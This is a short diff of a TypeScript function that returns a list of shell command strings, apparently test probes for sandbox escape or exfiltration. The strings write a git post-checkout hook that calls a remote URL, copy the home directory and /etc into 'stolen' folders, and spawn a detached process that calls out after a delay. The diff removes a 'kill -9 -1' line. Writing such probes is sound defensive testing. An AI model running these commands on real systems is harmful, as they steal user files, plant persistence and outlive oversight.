@@ -43,6 +43,5 @@ export const channels = ({ home, host, outside, port, remote }: Target): string[
     `mkdir -p .git/hooks && printf '#!/bin/sh\\ncurl ${url}/hook\\n' > .git/hooks/post-checkout && chmod 755 .git/hooks/*`,
     `ln -s ${home} stolen-home; ln -s /etc stolen-etc; cp -rL stolen-home stolen-copy; rm -f stolen-home stolen-etc`,
     `(setsid sh -c 'sleep 5; curl -m 3 ${url}/later' >/dev/null 2>&1 &)`,
-    `kill -9 -1`,
   ];
 };
